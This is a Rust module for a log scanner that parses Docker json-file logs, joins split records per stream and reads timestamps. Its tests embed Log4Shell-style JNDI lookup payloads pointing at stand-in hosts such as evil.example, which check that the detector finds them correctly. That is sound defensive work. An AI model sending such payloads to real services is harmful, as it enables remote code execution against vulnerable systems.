//! Docker json-file logs: one `{"log","stream","time"}` object per line. A record is decoded
//! only when it is a candidate (or a part); messages longer than Docker's 16 KiB copy buffer
//! come in parts whose `log` lacks the final newline, joined per stream (across rotated
//! files too) before they are evaluated. The record's time and stream are the object's.

use std::sync::LazyLock;

use memchr::memmem::FinderRev;
use serde::Deserialize;

use super::{without_bom, Cutter, Framing};
use crate::logscan::records::{trim_cr, Line, Pending, Records};
use crate::model::{Diagnostic, Rfc3339Memo, Timestamp};

/// Docker's log copier cuts messages longer than its 16 KiB buffer into parts whose `log`
/// lacks the final newline. A shorter record without a newline is not a part: it is the last
/// output of a process that exited without printing one, complete as it is.
const PART_SIZE: usize = 16 * 1024;

/// The json-file log driver's format.
#[derive(Clone, Copy, Debug)]
pub struct JsonFile;

impl Framing for JsonFile {
    fn name(&self) -> &'static str {
        "json-file"
    }

    fn sniff(&self, head: &[u8]) -> bool {
        without_bom(head).starts_with(b"{\"log\":")
    }

    fn cutter(&self) -> Box<dyn Cutter> {
        Box::<JsonFileCutter>::default()
    }

    fn rotated(&self) -> bool {
        true
    }

    fn parts_carried(&self) -> bool {
        true
    }
}

#[derive(Deserialize)]
struct JsonRecord {
    #[serde(default)]
    log: String,
    #[serde(default)]
    stream: Option<String>,
    #[serde(default)]
    time: Option<String>,
}

#[derive(Default)]
struct JsonFileCutter {
    /// Pieces of lines longer than the read buffer, searched as text.
    long_pieces: u64,
    /// The records' times, parsed in turn.
    times: Rfc3339Memo,
}

impl Cutter for JsonFileCutter {
    fn line(&mut self, line: Line<'_>, out: &mut Records<'_>) {
        let raw = trim_cr(line.bytes);
        let (number, offset) = (line.number, line.offset);
        if raw.is_empty() {
            return;
        }
        // Only the `log` value can hold a hit (the message evaluated is decoded from it): in
        // Docker's layout the tail (a third of a short line) is left out of the search.
        let (time, stream, newline, searched) = match docker_tail(raw) {
            Some(t) => (Some(t.time), t.stream, t.newline, &raw[..t.log_end]),
            None => {
                let (time, stream) = time_and_stream(raw);
                (time, stream, NEWLINE_END.rfind(raw).is_some(), raw)
            }
        };
        let time = time.and_then(|t| self.times.parse(t));
        out.count_record(time, stream);
        let partial = raw.starts_with(b"{\"log\":\"") && !newline;
        if !partial && !out.has_pending() && !out.is_candidate(searched) {
            return;
        }
        let rec: JsonRecord = match serde_json::from_slice(raw) {
            Ok(r) => r,
            Err(_) => {
                out.not_json(raw, number, offset);
                return;
            }
        };
        let time = rec.time.as_deref().and_then(Timestamp::parse_rfc3339);
        let stream = rec.stream.unwrap_or_default();
        let ends = rec.log.ends_with('\n');
        let mut text = rec.log.into_bytes();
        if let Some(mut p) = out.take_pending(&stream) {
            p.text.extend_from_slice(&text);
            if ends || p.text.len() >= out.cfg().max_join {
                p.time = p.time.or(time);
                out.emit(p, &stream);
            } else {
                out.hold(stream, p);
            }
            return;
        }
        if !ends && text.len() >= PART_SIZE {
            text.truncate(out.cfg().max_join);
            out.hold(stream, Pending { text, line: number, offset, time, origin: None });
            return;
        }
        out.message(&text, number, offset, time, &stream);
    }

    fn long_piece(&mut self, _first: bool, _out: &mut Records<'_>) {
        self.long_pieces += 1;
    }

    fn diagnostics(&self, out: &Records<'_>) -> Vec<Diagnostic> {
        if self.long_pieces == 0 {
            return vec![];
        }
        vec![Diagnostic::warning(
            out.locator().clone(),
            format!(
                "{} piece(s) of json-file lines longer than {} bytes scanned as plain text",
                self.long_pieces,
                out.cfg().buf_size
            ),
        )]
    }
}

/// A record's fields read from its end, in Docker's layout.
struct DockerTail<'a> {
    time: &'a [u8],
    stream: &'a [u8],
    /// Whether `log` ends with a newline (else the record may be a part).
    newline: bool,
    /// Where the `log` value's closing quote is.
    log_end: usize,
}

/// The record's fields when it ends as Docker writes it:
/// `\n","stream":"stdout","time":"2026-11-27T14:00:00.1Z"}`. Read from the end without a
/// search (every record is counted; the searches cost a quarter of a json-file scan). Quotes
/// inside `log` are escaped, so the last two quoted values are the record's. Other layouts
/// (fields in another order, `attrs`) are left to [`time_and_stream`].
fn docker_tail(raw: &[u8]) -> Option<DockerTail<'_>> {
    let body = raw.strip_suffix(b"\"}")?;
    let t = memchr::memrchr(b'"', body)? + 1;
    let before_time = body[..t].strip_suffix(b",\"time\":\"")?;
    let stream_body = before_time.strip_suffix(b"\"")?;
    let s = memchr::memrchr(b'"', stream_body)? + 1;
    let before_stream = stream_body[..s].strip_suffix(b"\"stream\":\"")?;
    let log = before_stream.strip_suffix(b"\",")?;
    Some(DockerTail {
        time: &body[t..],
        stream: &stream_body[s..],
        newline: log.ends_with(b"\\n"),
        log_end: log.len(),
    })
}

/// A record's `time` (as written) and `stream`, read without decoding the object (every
/// record is counted for the log's span; only candidates are decoded). Docker writes them
/// after `log`, whose quotes are escaped, so the last `"time":"` and `"stream":"` are the
/// record's own.
fn time_and_stream(raw: &[u8]) -> (Option<&[u8]>, &[u8]) {
    let field = |finder: &FinderRev<'static>| {
        let at = finder.rfind(raw)? + finder.needle().len();
        let len = memchr::memchr(b'"', &raw[at..])?;
        Some(&raw[at..at + len])
    };
    (field(&TIME), field(&STREAM).unwrap_or_default())
}

/// The searches every record makes, built once (building a finder per line cost more than
/// the search).
static NEWLINE_END: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\\n\",\"stream\""));
static TIME: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\"time\":\""));
static STREAM: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\"stream\":\""));

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logscan::engine::Engine;
    use crate::logscan::framing::cri::Cri;
    use crate::logscan::records::ScanConfig;
    use crate::logscan::stream::scan_stream;
    use crate::model::Locator;

    #[test]
    fn docker_tail_reads_what_the_searches_read() {
        let lines: [&[u8]; 7] = [
            br#"{"log":"GET /\n","stream":"stdout","time":"2026-11-27T14:00:00.000015838Z"}"#,
            br#"{"log":"no newline","stream":"stderr","time":"2026-11-27T14:00:00Z"}"#,
            br#"{"log":"quote \"stream\":\"x\" \"time\":\"y\"\n","stream":"stdout","time":"2026-11-27T14:00:01.5Z"}"#,
            br#"{"log":"a\\n","stream":"stdout","time":"bad"}"#,
            br#"{"log":"x","stream":"","time":""}"#,
            br#"{"log":"x\n","stream":"stdout","attrs":{"tag":"web"},"time":"2026-11-27T14:00:00Z"}"#,
            br#"{"log":"x\n","time":"2026-11-27T14:00:00Z","stream":"stdout"}"#,
        ];
        for (i, raw) in lines.iter().enumerate() {
            let searched = (time_and_stream(raw), NEWLINE_END.rfind(raw).is_some());
            match docker_tail(raw) {
                Some(t) => assert_eq!(((Some(t.time), t.stream), t.newline), searched, "line {i}"),
                // Only the layouts Docker does not write by default are left to the searches.
                None => assert!(i >= 5, "line {i}"),
            }
        }
        let t = docker_tail(lines[0]).unwrap();
        assert_eq!(
            (t.stream, t.newline, &lines[0][..t.log_end]),
            (&b"stdout"[..], true, &br#"{"log":"GET /\n"#[..])
        );
    }

    #[test]
    fn every_record_is_counted_for_the_span_not_only_candidates() {
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("x-json.log");
        let json = concat!(
            "{\"log\":\"up \\\"time\\\":\\\"2030-01-01T00:00:00Z\\\"\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}\n",
            "not json at all\n",
            "{\"log\":\"GET /?x=${jndi:ldap://e.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T15:00:00.5Z\"}\n",
            "{\"log\":\"bye\\n\",\"stream\":\"stdout\",\"time\":\"bad\"}\n",
        );
        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &ScanConfig::default(), &loc, 0);
        let s = scan.span.unwrap();
        assert_eq!((s.records, s.stdout, s.stderr, s.undated), (4, 2, 1, 2));
        // The escaped `"time":"` inside the message is not the record's time.
        assert_eq!(s.first.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:00.000000000Z"));
        assert_eq!(s.last.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T15:00:00.500000000Z"));
        assert_eq!(s.bytes, json.len() as u64);
    }

    #[test]
    fn partial_records_never_join_across_streams() {
        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
        // message holds `${jndi:...}`, so no hit may be made up by joining them.
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("0.log");
        let cfg = ScanConfig::default();
        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
        let scan = scan_stream(&cri[..], &Cri, &engine, &cfg, &loc, 0);
        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
        let pad = "x".repeat(PART_SIZE);
        let json = format!(
            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
        );
        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &cfg, &loc, 0);
        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
        // Joined within its own stream, the payload is found, on the line it starts.
        let json = format!(
            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
        );
        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &cfg, &loc, 0);
        let hits: Vec<_> = scan
            .hits
            .iter()
            .filter(|h| h.found.jndi.is_some())
            .map(|h| (h.locator.line, h.stream.clone()))
            .collect();
        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
    }
}
